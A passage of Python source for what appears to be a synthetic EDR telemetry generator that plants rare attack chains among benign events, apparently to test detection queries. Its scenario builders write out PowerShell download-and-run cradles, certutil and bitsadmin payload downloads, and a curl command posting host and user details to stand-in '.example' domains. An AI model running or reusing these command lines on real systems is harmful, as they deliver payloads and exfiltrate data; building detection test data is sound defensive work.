        tpid = self._upid()
        return (
            f'"TargetProcessId":"{tpid}","ContextProcessId":"{tpid}",'
            f'"RawProcessId":"{4 * (1 + int(rnd() * 16000))}",'
            f'"ContextTimeStamp":"{_secs(t)}","ProcessEndTime":"{_secs(t)}",'
            f'"UserTime":"{int(rnd() * 10**7)}","KernelTime":"{int(rnd() * 10**6)}",'
            f'"CycleTime":"{int(rnd() * 10**10)}","PeakWorkingSetSize":"{4096 * int(rnd() * 100000)}",'
            f'"PrivateBytes":"{4096 * int(rnd() * 50000)}","NetworkConnectCount":"{int(rnd() * 12)}",'
            f'"DnsRequestCount":"{int(rnd() * 8)}","GenericFileWrittenCount":"{int(rnd() * 20)}",'
            f'"ExeWrittenCount":"0","ScriptWrittenCount":"0","ChildProcessCount":"{int(rnd() * 3)}"'
        )

    def _file(self, h: _Host, t: int, a: int, exts: tuple[str, ...]) -> str:
        rng = self.rng
        rnd = rng.random
        d = h.write_dirs[int(rnd() * len(h.write_dirs))][a]
        name = f"{rng.getrandbits(36):09x}{exts[int(rnd() * len(exts))]}"
        return (
            f'"TargetFileName":"{d}{name}","ContextProcessId":"{self._upid()}",'
            f'"ContextThreadId":"{self._upid()}","ContextTimeStamp":"{_secs(t - int(rnd() * 30))}",'
            f'"Size":"{int(rnd() * 5_000_000)}","IsOnNetwork":"0","IsOnRemovableDisk":"0"'
        )

    def _b_NewExecutableWritten(self, h: _Host, t: int, a: int) -> str:
        return self._file(h, t, a, (".exe", ".dll", ".tmp") if h.pidx == 0 else ("", ".bin", ".so"))

    def _b_PeFileWritten(self, h: _Host, t: int, a: int) -> str:
        return self._file(h, t, a, (".exe", ".dll", ".sys"))

    def _b_GenericFileWritten(self, h: _Host, t: int, a: int) -> str:
        return self._file(h, t, a, (".log", ".json", ".tmp", ".txt", ".db-wal", ".xml"))

    def _b_RegGenericValueUpdate(self, h: _Host, t: int, a: int) -> str:
        rnd = self.rng.random
        obj, val, text = h.reg[int(rnd() * len(h.reg))]
        return (
            f'"RegObjectName":"{obj[a]}","RegValueName":"{val[a]}","RegStringValue":"{text[a]}",'
            f'"RegType":"1","RegOperationType":"{1 if rnd() < 0.8 else 2}",'
            f'"ContextProcessId":"{self._upid()}","ContextThreadId":"{self._upid()}",'
            f'"ContextTimeStamp":"{_secs(t - int(rnd() * 30))}","AuthenticationId":"999"'
        )

    def _b_UserLogon(self, h: _Host, t: int, a: int) -> str:
        rnd = self.rng.random
        e_user, uid, _gid = h.e_users[0]
        ltype = _LOGON_TYPES[int(rnd() * len(_LOGON_TYPES))]
        if h.pidx == 0:
            return (
                f'"UserName":"{e_user[a]}","UserSid":"{uid}","LogonType":"{ltype}",'
                f'"LogonDomain":"CORP","UserPrincipal":"{e_user[a]}@corp.example.com",'
                f'"AuthenticationPackage":"{"Kerberos" if rnd() < 0.7 else "Negotiate"}",'
                f'"UserLogonFlags":"{int(rnd() * 8)}","LogonServer":"DC02",'
                f'"LogonTime":"{_secs(t - 5)}","AuthenticationId":"{100000 + int(rnd() * 9000000)}",'
                f'"UserIsAdmin":"{1 if rnd() < 0.2 else 0}","PasswordLastSet":"{_secs(t - 86400000 * 40)}"'
            )
        return (
            f'"UserName":"{e_user[a]}","UID":"{uid}","LogonType":"{ltype}",'
            f'"LogonTime":"{_secs(t - 5)}","UserIsAdmin":"{1 if rnd() < 0.3 else 0}",'
            f'"RemoteAddressIP4":"{self.private_ips[int(rnd() * 64)]}"'
        )

    def _b_SensorHeartbeat(self, h: _Host, t: int, a: int) -> str:
        pub = h.pub
        cpus = f',"ActiveCpuCount":{pub["cpus"]}' if pub["EventOrigin"] is not None else ""
        return (
            f'"ConfigIDBase":"65994763","ConfigIDPlatform":"{3 + h.pidx}",'
            f'"ConfigIDBuild":"{pub["ConfigBuild"].split(".")[2]}","SensorStateBitMap":"0",'
            f'"NetworkContainmentState":"0","ProvisionState":"1","AgentLocalTime":"{_secs(t)}"{cpus}'
        )

    def _b_ScriptControlScanTelemetry(self, h: _Host, t: int, a: int) -> str:
        rng = self.rng
        lines = rng.sample(_PS_SCRIPT_LINES, 2 + int(rng.random() * 8))
        content = "\n".join(lines)
        sha = _digest(content, 32)
        return (
            f'"ScriptContent":"{gson_escape(content, bool(a))}",'
            f'"ScriptContentName":"C:\\\\ProgramData\\\\Corp\\\\Scripts\\\\inventory.ps1",'
            f'"ContentSHA256HashData":"{sha}","OriginalContentLength":"{len(content) * 2}",'
            f'"ScriptingLanguageId":"1","ContextProcessId":"{self._upid()}",'
            f'"ContextTimeStamp":"{_secs(t - 3)}"'
        )


# --------------------------------------------------------------------------
# Planted scenarios (built as dicts; rare, so speed does not matter here)

_SCENARIO_PLATFORMS: dict[str, tuple[str, ...]] = {
    "msi_powershell": ("Win",),
    "pip_python_curl": ("Lin", "Mac"),
    "msi_silent_cmd": ("Win",),
    "ssh_client": ("Win",),
    "aptitude_upgrade": ("Lin",),
    "updater_msiexec": ("Win",),
    "msiexec_private_net": ("Win",),
    "apt_maintainer": ("Lin",),
    "lookalike_event_names": ("Win",),
}

_EVIL_DOMAINS = (
    "update-check.example.net",
    "cdn.msi-telemetry.example.org",
    "files.invoice-portal.example.com",
    "hooks.pkg-stats.example.org",
    "static.fontpack.example.net",
)
_MSI_LURES = (
    "invoice_viewer_setup.msi",
    "ZoomPlugin_x64.msi",
    "AdobeFontPack.msi",
    "vpnclient-5.2.1.msi",
    "TeamsAddin.msi",
)
_PIP_PACKAGES = (
    "acme-telemetry",
    "requests-toolbelt2",
    "colourama",
    "py-utils-ext",
    "fastjson-lite",
)


class _Chain:
    """Builds the events of one planted instance on one host."""

    def __init__(self, rng: random.Random, host: dict, start_ms: int) -> None:
        self.rng = rng
        self.host = host
        self.t = start_ms
        self.platform = host["platform"]

    def tick(self, lo: int = 5, hi: int = 400) -> int:
        self.t += lo + int(self.rng.random() * (hi - lo))
        return self.t

    def upid(self) -> str:
        return str(self.rng.getrandbits(44))

    def common(self, simple: str) -> dict[str, Any]:
        host = self.host
        rng = self.rng
        versioned = _VERSIONED[simple][_PLATFORM_INDEX[self.platform]]
        if not versioned:
            raise ValueError(f"{simple} does not exist on {self.platform}")
        x = rng.getrandbits(48)
        node = host["node"]
        ev: dict[str, Any] = {
            "event_simpleName": simple,
            "name": versioned,
            "aid": host["aid"],
            "aip": host["aip"],
            "cid": host["cid"],
            "event_platform": self.platform,
            "ConfigBuild": host["ConfigBuild"],
            "ConfigStateHash": host["ConfigStateHash"],
            "Entitlements": host["Entitlements"],
            "EffectiveTransmissionClass": _TRANSMISSION.get(simple, "3"),
            "timestamp": str(self.tick()),
            "id": f"{x >> 16:08x}-{x & 0xFFFF:04x}-11f0-{node[:4]}-{node[4:]}",
        }
        if host["ComputerName"]:
            ev["ComputerName"] = host["ComputerName"]
        if host["EventOrigin"] is not None:
            ev["EventOrigin"] = host["EventOrigin"]
        return ev

    def process(
        self,
        image: str,
        cmd: str,
        parent: str,
        user: int = 0,
        *,
        pid: str | None = None,
        ppid: str | None = None,
        simple: str = "ProcessRollup2",
        integrity: str = "8192",
    ) -> dict[str, Any]:
        host = self.host
        ev = self.common(simple)
        u = host["users"][min(user, len(host["users"]) - 1)]
        win = self.platform == "Win"
        dev = _dev_path(image, host["volume"]) if win else image
        fpath, fname = _split(dev, "\\" if win else "/")
        ev.update(
            {
                "ImageFileName": dev,
                "CommandLine": cmd,
                "ParentBaseFileName": parent,
                "FileName": fname,
                "FilePath": fpath,
                "UserName": u["UserName"],
                "TargetProcessId": pid or self.upid(),
                "ParentProcessId": ppid or self.upid(),
                "RawProcessId": str(4 * (1 + int(self.rng.random() * 16000))),
                "SHA256HashData": _digest(image.lower(), 32),
                "MD5HashData": _digest("md5:" + image.lower(), 16),
                "SHA1HashData": "0" * 40,
                "ProcessStartTime": _secs(int(ev["timestamp"]) - 2),
                "ProcessEndTime": "",
            }
        )
        if win:
            ev.update(
                {
                    "UserSid": u["UserSid"],
                    "IntegrityLevel": "16384" if u["UserName"] == "SYSTEM" else integrity,
                    "AuthenticationId": "999"
                    if u["UserName"] == "SYSTEM"
                    else str(100000 + int(self.rng.random() * 9000000)),
                    "TokenType": "1",
                    "SignInfoFlags": "8683538",
                    "Tags": _TAGS[0],
                }
            )
        else:
            ev.update({"UID": u["UID"], "GID": u["GID"], "RUID": u["UID"], "RGID": u["GID"]})
        return ev

    def network(
        self,
        ctx_pid: str,
        remote: str,
        port: str = "443",
        image: str | None = None,
        *,
        simple: str = "NetworkConnectIP4",
    ) -> dict[str, Any]:
        host = self.host
        ev = self.common(simple)
        eph = str((49152 if self.platform == "Win" else 32768) + int(self.rng.random() * 16000))
        inbound = simple == "NetworkReceiveAcceptIP4"
        ev.update(
            {
                "LocalAddressIP4": host["local_ip"],
                "LocalPort": port if inbound else eph,
                "RemoteAddressIP4": remote,
                "RemotePort": eph if inbound else port,
                "Protocol": "6",
                "ConnectionDirection": "1" if inbound else "0",
                "ConnectionFlags": "0",
                "ContextProcessId": ctx_pid,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "InContext": "1",
            }
        )
        if image is not None:
            ev["ImageFileName"] = (
                _dev_path(image, host["volume"]) if self.platform == "Win" else image
            )
        return ev

    def dns(self, ctx_pid: str, domain: str, base: str, answer: str) -> dict[str, Any]:
        ev = self.common("DnsRequest")
        ev.update(
            {
                "DomainName": domain,
                "RequestType": "1",
                "ContextProcessId": ctx_pid,
                "ContextBaseFileName": base,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "IP4Records": answer + ";",
                "FirstIP4Record": answer,
                "DnsResponseType": "1",
                "QueryStatus": "0",
            }
        )
        return ev

    def file_written(
        self, ctx_pid: str, target: str, simple: str = "GenericFileWritten"
    ) -> dict[str, Any]:
        ev = self.common(simple)
        if self.platform == "Win":
            target = _dev_path(target, self.host["volume"])
        ev.update(
            {
                "TargetFileName": target,
                "ContextProcessId": ctx_pid,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "Size": str(int(self.rng.random() * 4000) + 20),
                "IsOnNetwork": "0",
                "IsOnRemovableDisk": "0",
            }
        )
        return ev


_MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = "C:\\Windows\\System32\\cmd.exe"


def _cradle(rng: random.Random, domain: str) -> str:
    path = rng.choice(("stage2.ps1", "update.ps1", "a.ps1", "cfg/init.ps1"))
    payload = rng.choice(("svchelper.exe", "msupdate.exe", "fontcache.exe"))
    style = rng.random()
    if style < 0.34:
        return (
            f"{_POWERSHELL} -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "
            f"\"IEX (New-Object Net.WebClient).DownloadString('https://{domain}/{path}')\""
        )
    if style < 0.67:
        return (
            f'powershell.exe -nop -w hidden -c "Invoke-WebRequest -Uri https://{domain}/{payload} '
            f'-OutFile $env:TEMP\\{payload}; Start-Process $env:TEMP\\{payload}"'
        )
    script = (
        f"$u='https://{domain}/{payload}';$p=\"$env:TEMP\\{payload}\";"
        "(New-Object System.Net.WebClient).DownloadFile($u,$p);Start-Process -WindowStyle Hidden $p"
    )
    return f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {_b64_ps(script)}"


def _msi_client(c: _Chain, msi: str, args: str, parent: str, user: int = 0) -> dict[str, Any]:
    return c.process(
        _MSIEXEC,
        f'"C:\\Windows\\System32\\msiexec.exe" /i "{msi}"{args}',
        parent,
        user,
        integrity="12288",
    )


def _msi_service(c: _Chain) -> dict[str, Any]:
    return c.process(_MSIEXEC, "C:\\Windows\\system32\\msiexec.exe /V", "services.exe", 1)


def _msi_custom_action_server(c: _Chain, service_pid: str, user: int) -> dict[str, Any]:
    guid = _hex(c.rng, 128).upper()
    context = "E Global\\MSI0000" if user else "C"
    return c.process(
        _MSIEXEC,
        f"C:\\Windows\\System32\\MsiExec.exe -Embedding {guid} {context}",
        "msiexec.exe",
        user,
        ppid=service_pid,
    )


def _s_msi_powershell(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    domain = rng.choice(_EVIL_DOMAINS)
    msi = f"{home}\\Downloads\\{rng.choice(_MSI_LURES)}"
    evs = [_msi_client(c, msi, "", "explorer.exe")]
    service = _msi_service(c)
    evs.append(service)
    deferred = 1 if rng.random() < 0.6 else 0
    ca = _msi_custom_action_server(c, service["TargetProcessId"], deferred)
    evs.append(ca)
    ps = c.process(
        _POWERSHELL, _cradle(rng, domain), "msiexec.exe", deferred, ppid=ca["TargetProcessId"]
    )
    evs.append(ps)
    server = _callback_ip(rng)
    evs.append(c.dns(ps["TargetProcessId"], domain, "powershell.exe", server))
    evs.append(c.network(ca["TargetProcessId"], _callback_ip(rng), "443", _MSIEXEC))
    evs.append(
        c.network(ps["TargetProcessId"], server, "443", _POWERSHELL if rng.random() < 0.5 else None)
    )
    return evs


def _s_msi_silent_cmd(c: _Chain) -> list[dict]:
    rng = c.rng
    msi = f"C:\\Users\\Public\\{rng.choice(('x.msi', 'setup.msi', 'custom_action_test.msi'))}"
    quiet = rng.choice((" /quiet", " /quiet /norestart", " /qn"))
    client = _msi_client(c, msi, quiet, rng.choice(("cmd.exe", "powershell.exe")))
    evs = [client]
    parent_pid = client["TargetProcessId"]
    if rng.random() < 0.5:
        service = _msi_service(c)
        evs.append(service)
        parent_pid = service["TargetProcessId"]
    out = "C:\\Users\\Public\\custom_action_test.txt"
    cmd = c.process(
        _CMD,
        f'"C:\\Windows\\system32\\cmd.exe" /c echo Custom action executed at %TIME% > "{out}"',
        "msiexec.exe",
        1,
        ppid=parent_pid,
    )
    evs.append(cmd)
    evs.append(c.file_written(cmd["TargetProcessId"], out))
    if rng.random() < 0.5:
        domain = rng.choice(_EVIL_DOMAINS)
        payload = rng.choice(("p.exe", "helper.dll", "update.exe"))
        if rng.random() < 0.5:
            image = "C:\\Windows\\System32\\certutil.exe"
            line = f"certutil.exe -urlcache -split -f https://{domain}/{payload} C:\\Windows\\Temp\\{payload}"
        else:
            image = "C:\\Windows\\System32\\bitsadmin.exe"
            line = (
                f'"C:\\Windows\\system32\\bitsadmin.exe" /transfer msiupd /download /priority high '
                f"https://{domain}/{payload} C:\\Users\\Public\\{payload}"
            )
        child = c.process(image, line, "msiexec.exe", 1, ppid=parent_pid)
        evs.append(child)
        evs.append(c.network(child["TargetProcessId"], _callback_ip(rng), "443", image))
    return evs


def _s_pip_python_curl(c: _Chain) -> list[dict]:
    rng = c.rng
    host = c.host
    user = 0 if rng.random() < 0.8 else 1
    home = host["users"][user]["home"]
    pkg = rng.choice(_PIP_PACKAGES)
    ver = f"{rng.randrange(1, 4)}.{rng.randrange(0, 12)}.{rng.randrange(0, 9)}"
    mac = c.platform == "Mac"
    shell = "zsh" if mac else "bash"
    pip_image = "/opt/homebrew/bin/pip3" if mac else "/usr/local/bin/pip3"
    py_image = "/opt/homebrew/bin/python3" if mac else "/usr/bin/python3"
    if rng.random() < 0.5:
        pip_cmd = f"{pip_image} install {pkg}=={ver}"
    else:
        pip_cmd = f"pip3 install --no-cache-dir {home}/Downloads/{pkg}-{ver}.tar.gz"
    pip = c.process(pip_image, pip_cmd, shell, user)
    tmp = f"/tmp/pip-install-{_hex(rng, 32)}/{pkg.replace('-', '_')}_{_hex(rng, 64)}"
    py_cmd = (
        f"{py_image} -u -c \"import io, os, sys, setuptools, tokenize; sys.argv[0] = '{tmp}/setup.py'; "
        f"__file__='{tmp}/setup.py';f = getattr(tokenize, 'open', open)(__file__) if os.path.exists(__file__) "
        "else io.StringIO('from setuptools import setup; setup()');code = f.read().replace('\\r\\n', '\\n');"
        "f.close();exec(compile(code, __file__, 'exec'))\" install --record "
        f"/tmp/pip-record-{_hex(rng, 32)}/install-record.txt --single-version-externally-managed --compile"
    )
    py = c.process(py_image, py_cmd, "pip3", user, ppid=pip["TargetProcessId"])
    domain = rng.choice(_EVIL_DOMAINS)
    name = host["hostname"]
    curl_cmd = (
        f"curl -fsS -X POST https://{domain}/i/{pkg}?v={ver} "
        f"-d host={name.replace(' ', '-')}&user={host['users'][user]['UserName']}&os={c.platform.lower()}"
    )
    curl = c.process("/usr/bin/curl", curl_cmd, "python3", user, ppid=py["TargetProcessId"])
    server = _callback_ip(rng)
    return [
        pip,
        py,
        curl,
        c.dns(curl["TargetProcessId"], domain, "curl", server),
        c.network(curl["TargetProcessId"], server, "443", "/usr/bin/curl"),
    ]


def _l_ssh_client(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    target = _private_ip(rng)
    line = rng.choice(
        (
            f'"C:\\Windows\\System32\\OpenSSH\\ssh.exe" -i {home}\\.ssh\\id_ed25519 admin@{target}',
            f"ssh.exe -L 8443:localhost:443 deploy@{target}",
        )
    )
    ssh = c.process(
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        line,
        rng.choice(("powershell.exe", "pwsh.exe", "cmd.exe")),
    )
    net = c.network(ssh["TargetProcessId"], target, "22", "C:\\Windows\\System32\\OpenSSH\\ssh.exe")
    return [ssh, net]


def _l_aptitude_upgrade(c: _Chain) -> list[dict]:
    rng = c.rng
    apt = c.process("/usr/bin/aptitude", "aptitude safe-upgrade -y", "bash", 1)
    evs = [apt]
    if rng.random() < 0.5:
        evs.append(
            c.process(
                "/usr/bin/dash",
                "/bin/sh -c test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true",
                "aptitude",
                1,
                ppid=apt["TargetProcessId"],
            )
        )
    evs.append(
        c.process(
            "/usr/bin/dpkg",
            "/usr/bin/dpkg --force-confdef --force-confold --status-fd 44 --configure --pending",
            "aptitude",
            1,
            ppid=apt["TargetProcessId"],
        )
    )
    return evs


def _l_updater_msiexec(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    which = rng.random()
    if which < 0.34:
        parent, msi, extra = (
            "Zoom.exe",
            f"{home}\\AppData\\Roaming\\Zoom\\bin\\ZoomInstallerFull.msi",
            " /quiet /norestart ZoomAutoUpdate=true",
        )
    elif which < 0.67:
        parent, msi, extra = (
            "slack.exe",
            "C:\\ProgramData\\Slack\\slack-standalone-4.41.105.0.msi",
            " /qn ALLUSERS=1",
        )
    else:
        parent, msi, extra = (
            "GoogleUpdate.exe",
            "C:\\Program Files (x86)\\Google\\Update\\Install\\{4C2A7E1B-9D3F-4E8A-B6C5-0F1D2E3A4B5C}\\GoogleChromeStandaloneEnterprise64.msi",
            " /qn REBOOT=ReallySuppress",
        )
    client = _msi_client(c, msi, extra, parent, 1 if parent == "GoogleUpdate.exe" else 0)
    evs = [client]
    if rng.random() < 0.3:
        evs.append(
            c.process(
                _POWERSHELL,
                f'{_POWERSHELL} -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\{parent[:-4]}\\cleanup.ps1"',
                "msiexec.exe",
                1,
                ppid=client["TargetProcessId"],
            )
        )
    return evs


def _l_msiexec_private_net(c: _Chain) -> list[dict]:
    rng = c.rng
    share = rng.choice(
        ("\\\\fs01.corp.local\\deploy\\agent.msi", "\\\\10.20.0.5\\sccm$\\pkg\\CorpVPN.msi")
    )
    client = c.process(
        _MSIEXEC,
        f'"C:\\Windows\\System32\\msiexec.exe" /i "{share}" /qn /l*v C:\\Windows\\Temp\\agent_install.log',
        rng.choice(("CcmExec.exe", "cmd.exe")),
        1,
    )
    evs = [client]
    for _ in range(1 + int(rng.random() * 2)):
        evs.append(
            c.network(
                client["TargetProcessId"],
                _private_ip(rng),
                rng.choice(("445", "80", "443")),
                _MSIEXEC,
            )
        )
    return evs


def _l_apt_maintainer(c: _Chain) -> list[dict]:
    rng = c.rng
    pkg, ver = rng.choice(
        (
            ("nginx", "1.24.0-2ubuntu7"),
            ("openssh-server", "1:9.6p1-3ubuntu13"),
            ("tzdata", "2024a-3ubuntu1"),
            ("libssl3t64", "3.0.13-0ubuntu3"),
        )
    )
    front = rng.choice(("apt", "apt-get"))
    apt = c.process(f"/usr/bin/{front}", f"{front} install -y {pkg}", "sudo", 1)
    dpkg = c.process(
        "/usr/bin/dpkg",
        f"/usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/{pkg}_{ver}_amd64.deb",
        front,
        1,
        ppid=apt["TargetProcessId"],
    )
    script = c.process(
        "/usr/bin/dash",
        f"/bin/sh /var/lib/dpkg/info/{pkg}.postinst configure {ver}",
        "dpkg",
        1,
        ppid=dpkg["TargetProcessId"],
    )
    return [apt, dpkg, script]


def _l_lookalike_event_names(c: _Chain) -> list[dict]:
    rng = c.rng
    domain = rng.choice(_EVIL_DOMAINS)
    msi = c.process(
        _MSIEXEC,
        "C:\\Windows\\System32\\MsiExec.exe -Embedding 7F3A9C0D1E2B4A5C6D7E8F9012345678 C",
        "msiexec.exe",
        simple="SyntheticProcessRollup2",
    )
    ps = c.process(
        _POWERSHELL,
        _cradle(rng, domain),
        "msiexec.exe",
        simple="SyntheticProcessRollup2",
        ppid=msi["TargetProcessId"],
    )
    stats = c.common("ProcessRollup2Stats")
    stats.update(
        {
            "ImageFileName": _dev_path(_POWERSHELL, c.host["volume"]),
            "CommandLine": ps["CommandLine"],
            "ParentBaseFileName": "msiexec.exe",
            "FileName": "powershell.exe",
            "SHA256HashData": ps["SHA256HashData"],
            "ProcessCount": "3",
        }
    )
    accept = c.network(
        msi["TargetProcessId"],
        _callback_ip(rng),
        "8080",
        _MSIEXEC,
        simple="NetworkReceiveAcceptIP4",
    )
    return [msi, ps, stats, accept]


_SCENARIO_BUILDERS: dict[str, Callable[[_Chain], list[dict]]] = {
    "msi_powershell": _s_msi_powershell,
    "pip_python_curl": _s_pip_python_curl,
    "msi_silent_cmd": _s_msi_silent_cmd,
    "ssh_client": _l_ssh_client,
    "aptitude_upgrade": _l_aptitude_upgrade,
    "updater_msiexec": _l_updater_msiexec,
    "msiexec_private_net": _l_msiexec_private_net,
    "apt_maintainer": _l_apt_maintainer,
    "lookalike_event_names": _l_lookalike_event_names,
}


def scenario_events(
    name: str, rng: random.Random, host: dict, *, start_ms: int = START_MS
) -> list[dict]:
    """The events of one instance of a planted chain, as dicts in emission
    order (all values strings except ``EventOrigin``).

    ``name`` is one of :data:`SCENARIOS` or :data:`LOOKALIKES`; ``host`` a
    dict from :func:`make_hosts` of a fitting platform (Windows for the
    ``msi*``, ``ssh_client``, ``updater_msiexec`` and
    ``lookalike_event_names`` chains, Linux for the apt ones, Linux or macOS
    for ``pip_python_curl``).  Timestamps start just after ``start_ms``."""
    try:
        build = _SCENARIO_BUILDERS[name]
    except KeyError:
        raise ValueError(f"unknown scenario {name!r}") from None
    if host["platform"] not in _SCENARIO_PLATFORMS[name]:
        raise ValueError(f"scenario {name!r} needs a {'/'.join(_SCENARIO_PLATFORMS[name])} host")
    return build(_Chain(rng, host, start_ms))


# --------------------------------------------------------------------------
# Public entry points


def _text_lines(events: int, seed: int, mix: str, malicious_rate: float) -> Iterator[str]:
    if events < 0:
        raise ValueError("events must not be negative")
    return _Gen(seed, mix, malicious_rate).lines(events)


def generate_lines(
    events: int, seed: int = 0, mix: str = "realistic", malicious_rate: float = 0.001
) -> Iterator[bytes]:
    """Yield ``events`` NDJSON lines (UTF-8 bytes, each ending in ``\\n``)."""
    for line in _text_lines(events, seed, mix, malicious_rate):
        yield line.encode("utf-8")


def _write_stream(
    write: Callable[[bytes], object], events: int, seed: int, mix: str, malicious_rate: float
) -> int:
    """Hand the output to ``write`` in chunks of encoded lines."""
    written = 0
    buf: list[str] = []
    for line in _text_lines(events, seed, mix, malicious_rate):
        buf.append(line)
        if len(buf) >= _CHUNK_LINES:
            data = "".join(buf).encode("utf-8")
            write(data)
            written += len(data)
            buf.clear()
    if buf:
        data = "".join(buf).encode("utf-8")
        write(data)
        written += len(data)
    return written


def _write_gzip(raw: IO[bytes], events: int, seed: int, mix: str, malicious_rate: float) -> int:
    """Like :func:`_write_stream` into a gzip member on ``raw``; compression
    runs on a second thread (zlib releases the GIL), fed through a bounded
    queue so memory stays flat."""
    chunks: queue.Queue[bytes | None] = queue.Queue(maxsize=8)
    failure: list[BaseException] = []

    def compress() -> None:
        try:
            # mtime=0 and no file name keep the gzip header reproducible.
            with gzip.GzipFile(
                filename="", mode="wb", fileobj=raw, compresslevel=_GZIP_LEVEL, mtime=0
            ) as gz:
                while (chunk := chunks.get()) is not None:
                    gz.write(chunk)
        except BaseException as exc:  # handed to the producing thread
            failure.append(exc)
            while chunks.get() is not None:  # keep the producer from blocking
                pass

    def put(chunk: bytes) -> None:
        if failure:
            raise failure[0]
        chunks.put(chunk)

    worker = threading.Thread(target=compress, name="cqlmatch-gen-gzip", daemon=True)
    worker.start()
    try:
        written = _write_stream(put, events, seed, mix, malicious_rate)
    finally:
        chunks.put(None)
        worker.join()
    if failure:
        raise failure[0]
    return written


def write_file(
    path: str | Path,
    events: int,
    seed: int = 0,
    mix: str = "realistic",
    malicious_rate: float = 0.001,
) -> int:
    """Write the lines to ``path`` (gzip when it ends with ``.gz``); return
    the number of uncompressed bytes written.  The gzip stream is
    reproducible too (no file name, mtime 0)."""
    path = Path(path)
    with path.open("wb") as raw:
        if path.name.endswith(".gz"):
            return _write_gzip(raw, events, seed, mix, malicious_rate)
        return _write_stream(raw.write, events, seed, mix, malicious_rate)


def _non_negative(text: str) -> int:
    try:
        value = int(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not an integer: {text!r}") from None
    if value < 0:
        raise argparse.ArgumentTypeError("must not be negative")
    return value


def _rate(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not a number: {text!r}") from None
    if not 0.0 <= value <= 1.0:
        raise argparse.ArgumentTypeError("must be between 0 and 1")
    return value


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """The options of the ``gen`` command."""
    parser.add_argument(
        "--events", type=_non_negative, required=True, help="number of lines to write"
    )
    parser.add_argument("--seed", type=int, default=0, help="random seed (default 0)")
    parser.add_argument(
        "--out", required=True, help="output file, gzip if it ends with .gz; - for standard output"
    )
    parser.add_argument(
        "--mix", choices=MIXES, default="realistic", help="event mix (default realistic)"
    )
    parser.add_argument(
        "--malicious-rate",
        type=_rate,
        default=0.001,
        help="chance per event of a planted scenario instance, and of a benign look-alike (default 0.001)",
    )


def run(args: argparse.Namespace) -> int:
    """Run the ``gen`` command; print a one-line summary to standard error."""
    started = time.perf_counter()
    if args.out == "-":
        out = sys.stdout.buffer
        written = _write_stream(out.write, args.events, args.seed, args.mix, args.malicious_rate)
        out.flush()
    else:
        written = write_file(args.out, args.events, args.seed, args.mix, args.malicious_rate)
    elapsed = time.perf_counter() - started
    print(
        f"gen: {args.events} events, {written} bytes, {elapsed:.2f} s -> {args.out}",
        file=sys.stderr,
    )
    return 0
